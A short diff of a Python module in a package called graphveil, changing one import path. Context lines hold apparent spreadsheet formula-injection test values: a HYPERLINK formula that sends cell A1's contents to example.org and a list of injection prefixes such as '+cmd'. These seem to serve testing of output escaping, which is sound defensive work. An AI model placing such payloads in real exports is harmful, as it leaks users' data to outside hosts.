@@ -19,7 +19,7 @@ from graphveil.data.ids import alike, spelled_twice
 from graphveil.io.parsed import other_than_integers, problem_of
 from graphveil.io.writing import SEPARATORS
 from graphveil.verify.database import database
-from graphveil.verify.files.canonical import no_item
+from graphveil.verify.files.item_names import no_item
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
 BEGINS = ("=1", "+cmd", "-x", "@SUM(A1)", "\t=1", "\r=1")
